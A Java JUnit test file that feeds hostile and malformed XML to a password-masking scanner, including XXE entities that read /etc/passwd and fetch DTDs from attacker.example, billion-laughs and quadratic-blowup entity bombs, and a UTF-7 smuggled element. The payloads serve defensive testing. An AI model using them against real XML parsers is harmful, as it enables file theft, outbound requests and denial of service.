package dev.masking.core.internal;

import static dev.masking.core.internal.XmlTesting.mask;
import static dev.masking.core.internal.XmlTesting.names;
import static dev.masking.core.internal.XmlTesting.scan;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.masking.core.MaskAction;
import dev.masking.core.MaskPolicy;
import dev.masking.core.MaskingOptions;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** XXE, entity expansion, malformed input, limits and encodings. */
final class XmlScannerHostileTest {

  private static final MaskPolicy PASSWORD = names("password", "Password");

  @Test
  void xxePayloadsStayByteIdenticalAndUnexpanded() {
    String dtd = "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n"
        + "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n"
        + "  <!ENTITY web SYSTEM \"http://attacker.example/x\">\n"
        + "  <!ENTITY pub PUBLIC \"-//X//EN\" \"http://attacker.example/p.dtd\">\n"
        + "  <!ENTITY % pe SYSTEM \"http://attacker.example/evil.dtd\"> %pe;\n"
        + "  <!ENTITY tricky \"]> &gt; ' \">\n"
        + "  <!-- ]> a comment with > and ] -->\n"
        + "  <?pi ]> ?>\n"
        + "]>\n";
    String in = dtd + "<foo><password>s3cret</password><b>&xxe;&web;&pub;&tricky;</b>"
        + "<!-- <password>in a comment</password> --></foo>";
    XmlTesting.Result r = scan(in, PASSWORD);
    assertThat(r.text()).isEqualTo(in.replace("s3cret", "***"));
    assertThat(r.fallbacks()).isEmpty();
  }

  @Test
  void entityValueHoldingElementsIsScannedAsMarkup() {
    // &e; would expand to a password element: the value is read as markup and masked.
    String in = "<!DOCTYPE r [<!ENTITY e \"<password>s3cret</password>\">]><r>&e;</r>";
    XmlTesting.Result r = scan(in, PASSWORD);
    assertThat(r.text()).isEqualTo(in.replace("s3cret", "***"));
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_UNTERMINATED);
  }

  @Test
  void externalDtdReferenceIsKept() {
    String in = "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\">"
        + "<r><password>p</password></r>";
    assertThat(mask(in, PASSWORD)).isEqualTo(in.replace(">p<", ">***<"));
  }

  @Test
  void billionLaughsIsNotExpanded() {
    StringBuilder sb = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n"
        + " <!ENTITY lol \"lol\">\n");
    for (int i = 1; i <= 9; i++) {
      sb.append(" <!ENTITY lol").append(i).append(" \"");
      for (int j = 0; j < 10; j++) {
        sb.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
      }
      sb.append("\">\n");
    }
    sb.append("]>\n<lolz><password>&lol9;</password><x>&lol9;&lol9;</x></lolz>");
    String in = sb.toString();
    String out = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> mask(in, PASSWORD));
    assertThat(out)
        .isEqualTo(in.replace("<password>&lol9;</password>", "<password>***</password>"));
  }

  @Test
  void quadraticBlowupIsNotExpanded() {
    String big = "a".repeat(100_000);
    StringBuilder sb = new StringBuilder("<!DOCTYPE k [<!ENTITY a \"" + big + "\">]><k>");
    for (int i = 0; i < 10_000; i++) {
      sb.append("&a;");
    }
    sb.append("</k>");
    String in = sb.toString();
    assertThat(assertTimeoutPreemptively(Duration.ofSeconds(10), () -> scan(in, PASSWORD).bytes()))
        .isNull();
  }

  @Test
  void unclosedElementsAreStillMaskedWithANote() {
    XmlTesting.Result r = scan("<a><password>s3cret", PASSWORD);
    assertThat(r.text()).isEqualTo("<a><password>***");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_UNCLOSED);
  }

  @Test
  void truncatedAttributeValueIsMaskedToTheEnd() {
    XmlTesting.Result r = scan("<a password=\"s3cr", PASSWORD);
    assertThat(r.text()).isEqualTo("<a password=\"***");
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_SYNTAX);
  }

  @Test
  void garbageAfterTheRootIsScannedWithANote() {
    XmlTesting.Result r = scan("<a/>junk<password>s3cret</password>tail", PASSWORD);
    assertThat(r.text()).isEqualTo("<a/>junk<password>***</password>tail");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_OUTSIDE_ROOT);
  }

  @Test
  void mismatchedEndTagsCloseTheNearestMatch() {
    XmlTesting.Result r = scan("<a><b><password>x</b><password>y</password></c></a>", PASSWORD);
    assertThat(r.text()).isEqualTo("<a><b><password>***</b><password>***</password></c></a>");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_MISMATCH);
  }

  @Test
  void elementHiddenBehindAnUnterminatedCommentIsFound() {
    XmlTesting.Result r = scan("<a><!-- <password>s3cret</password>", PASSWORD);
    assertThat(r.text()).isEqualTo("<a><!-- <password>***</password>");
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_UNTERMINATED);
  }

  @Test
  void elementHiddenBehindABrokenDoctypeIsFound() {
    XmlTesting.Result r =
        scan("<!DOCTYPE x [ <!ENTITY a \"> ]><r><password>s3cret</password></r>", PASSWORD);
    assertThat(r.text()).doesNotContain("s3cret").contains("<password>***</password>");
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_UNTERMINATED);
  }

  @Test
  void unterminatedCdataInASelectedElementIsMasked() {
    XmlTesting.Result r = scan("<a><password><![CDATA[s3cret", PASSWORD);
    assertThat(r.text()).doesNotContain("s3cret");
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_UNTERMINATED, XmlScanner.NOTE_UNCLOSED);
  }

  @Test
  void strayLessThanIsText() {
    XmlTesting.Result r = scan("<a>1 < 2<password>s</password></a>", PASSWORD);
    assertThat(r.text()).isEqualTo("<a>1 < 2<password>***</password></a>");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_SYNTAX);
  }

  @Test
  void unquotedAttributeIsMasked() {
    XmlTesting.Result r = scan("<a password=s3cret x=1>t</a>", PASSWORD);
    assertThat(r.text()).isEqualTo("<a password=*** x=1>t</a>");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_SYNTAX);
  }

  @Test
  void manyUnterminatedOpenersStayLinear() {
    String in = "<a>" + "<!--<?<![CDATA[<!DOCTYPE [\"".repeat(50_000) + "<password>s</password>";
    XmlTesting.Result r =
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> scan(in, PASSWORD));
    assertThat(r.textOr(in)).doesNotContain(">s<");
  }

  @Test
  void nestingAtTheLimitIsScannedAndBeyondItMasked() {
    MaskingOptions opts = MaskingOptions.builder().maxXmlDepth(4).build();
    XmlTesting.Result at = scan("<a><b><c><password>x</password></c></b></a>", PASSWORD, opts);
    assertThat(at.text()).isEqualTo("<a><b><c><password>***</password></c></b></a>");
    assertThat(at.fallbacks()).isEmpty();
    XmlTesting.Result over =
        scan("<a><b><c><d><e k=\"v\">deep</e></d></c><z>keep</z></b></a>", MaskPolicy.NONE, opts);
    assertThat(over.text())
        .isEqualTo("<a><b><c><d><e k=\"***\">***</e></d></c><z>keep</z></b></a>");
    assertThat(over.fallbacks()).containsExactly(XmlScanner.NOTE_DEPTH);
  }

  @Test
  void depthOfOneHundredThousandFinishesWithoutRecursion() {
    String in = "<a>".repeat(100_000) + "<password>s</password>" + "</a>".repeat(100_000);
    XmlTesting.Result r =
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> scan(in, PASSWORD));
    assertThat(r.text()).doesNotContain(">s<");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_DEPTH);
  }

  @Test
  void floodOfStrayEndTagsUnderDeepNestingStaysLinear() {
    String in = "<a>".repeat(512) + "</b>".repeat(1_000_000) + "<password>s</password>";
    XmlTesting.Result r =
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> scan(in, PASSWORD));
    assertThat(r.text()).endsWith("<password>***</password>");
    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_MISMATCH, XmlScanner.NOTE_UNCLOSED);
  }

  @Test
  void tenThousandAttributesAndATenMegabyteAttribute() {
    StringBuilder sb = new StringBuilder("<a");
    for (int i = 0; i < 10_000; i++) {
      sb.append(" a").append(i).append("=\"v\"");
    }
    sb.append(" password=\"p\" big=\"").append("x".repeat(10_000_000)).append("\"/>");
    String in = sb.toString();
    XmlTesting.Result r =
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> scan(in, PASSWORD));
    assertThat(r.text()).isEqualTo(in.replace("password=\"p\"", "password=\"***\""));
  }

  @Test
  void pastMaxFieldsTheRestIsMasked() {
    MaskingOptions opts = MaskingOptions.builder().maxFields(3).build();
    XmlTesting.Result r = scan("<a><b>1</b><c x=\"2\">3</c><d>4</d></a>", MaskPolicy.NONE, opts);
    assertThat(r.text()).isEqualTo("<a><b>1</b><c x=\"***\">***</c><d>***</d></a>");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_FIELDS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"})
  void wideBodiesAreTranscodedAndReencoded(String charset) {
    Charset cs = Charset.forName(charset);
    String text = "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?><a><password>s\u00e9cret"
        + "</password><b>\u00e9t\u00e9 \uD83D\uDE00</b></a>";
    XmlTesting.Result r = scan(text.getBytes(cs), PASSWORD, MaskingOptions.defaults());
    // compared as bytes: some JDK decoders drop a byte order mark
    assertThat(r.bytes()).isEqualTo(text.replace("s\u00e9cret", "***").getBytes(cs));
  }

  @Test
  void invalidUtf16IsMaskedWhole() {
    byte[] in = {(byte) 0xFF, (byte) 0xFE, '<', 0, 'a', 0, 0, (byte) 0xD8, '>', 0};
    XmlTesting.Result r = scan(in, PASSWORD, MaskingOptions.defaults());
    assertThat(new String(r.bytes(), StandardCharsets.UTF_16LE)).isEqualTo("\uFEFF***");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_UNDECODABLE);
  }

  @Test
  void latin1DeclaredBodyKeepsItsEncodingInTurkishLocale() {
    Locale saved = Locale.getDefault();
    Locale.setDefault(new Locale("tr", "TR"));
    try {
      String text = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r><b>\u00e9</b>"
          + "<password>\u00e9t\u00e9-secret</password></r>";
      byte[] in = text.getBytes(StandardCharsets.ISO_8859_1);
      XmlTesting.Result r =
          scan(in, names(new MaskAction.KeepFirst(1), "password"), MaskingOptions.defaults());
      assertThat(new String(r.bytes(), StandardCharsets.ISO_8859_1))
          .isEqualTo(text.replace("\u00e9t\u00e9-secret", "\u00e9*********"));
      assertThat(r.fallbacks()).isEmpty();
    } finally {
      Locale.setDefault(saved);
    }
  }

  @Test
  void unknownDeclaredEncodingIsScannedAsUtf8WithANote() {
    XmlTesting.Result r =
        scan("<?xml version=\"1.0\" encoding=\"bogus-9\"?><a><password>s</password></a>", PASSWORD);
    assertThat(r.text()).contains("<password>***</password>");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_ENCODING_UNKNOWN);
  }

  @Test
  void utf7DeclaredBodyIsMaskedWhole() {
    String in = "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-password+AD4-s3cret"
        + "+ADw-/password+AD4-</a>";
    XmlTesting.Result r = scan(in, PASSWORD);
    assertThat(r.text()).isEqualTo("***");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_ENCODING_UNSAFE);
  }

  @Test
  void ebcdicBodyIsDetectedAndMaskedWhole() {
    Charset ebcdic = Charset.forName("IBM037");
    byte[] in = "<?xml version=\"1.0\" encoding=\"IBM037\"?><a><password>s3cret</password></a>"
        .getBytes(ebcdic);
    assertThat(BodyFormat.detect(null, in, 0, in.length)).isEqualTo(BodyFormat.XML);
    XmlTesting.Result r = scan(in, PASSWORD, MaskingOptions.defaults());
    assertThat(r.text()).isEqualTo("***");
    assertThat(r.fallbacks()).containsExactly(XmlScanner.NOTE_ENCODING_UNSAFE);
  }

  @Test
  void utf16BodyWithoutContentTypeIsSniffedAsXml() {
    byte[] in = "\uFEFF<a><password>x</password></a>".getBytes(StandardCharsets.UTF_16LE);
    assertThat(BodyFormat.detect(null, in, 0, in.length)).isEqualTo(BodyFormat.XML);
    assertThat(BodyFormat.detect("text/xml", in, 0, in.length)).isEqualTo(BodyFormat.XML);
  }

  @ParameterizedTest
  @ValueSource(strings = {"application/xml", "text/xml; charset=utf-8", "application/soap+xml",
      "application/atom+xml", "Application/XML", "image/svg+xml"})
  void xmlContentTypesAreDetected(String contentType) {
    byte[] in = "<a/>".getBytes(StandardCharsets.UTF_8);
    assertThat(BodyFormat.detect(contentType, in, 0, in.length)).isEqualTo(BodyFormat.XML);
    byte[] bad = "\u0001garbage".getBytes(StandardCharsets.UTF_8);
    assertThat(BodyFormat.detect(contentType, bad, 0, bad.length)).isEqualTo(BodyFormat.XML);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<a><password>s3cret</password></a>",
      "<a password=\"s3cret\" b='x'/>",
      "<a><password>s3cret",
      "<a password=\"s3cr",
      "<a password=s3cret>",
      "<a/>junk<password>s3cret</password>tail",
      "<a><!-- <password>s3cret</password>",
      "<a><password><![CDATA[s3cret",
      "<a><password><![CDATA[s3]]]]><![CDATA[>cret]]></password></a>",
      "<!DOCTYPE x [ <!ENTITY a \"> ]><r><password>s3cret</password></r>",
      "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-password+AD4-s3cret</a>",
      "<a><Credentials><u x=\"s3cret\">s3cret</u></Credentials></a>",
      "<a>1 < 2 & 3<password>s3&amp;cret</password></a>"})
  void maskingIsIdempotent(String in) {
    for (MaskAction action : new MaskAction[] {MaskAction.redact(), new MaskAction.Stars(),
        new MaskAction.KeepLast(2), new MaskAction.Remove()}) {
      MaskPolicy p = names(action, "password", "Credentials");
      String once = mask(in, p);
      assertThat(once).doesNotContain("s3cret");
      assertThat(scan(once, p).bytes()).as("second pass of %s", once).isNull();
    }
  }
}
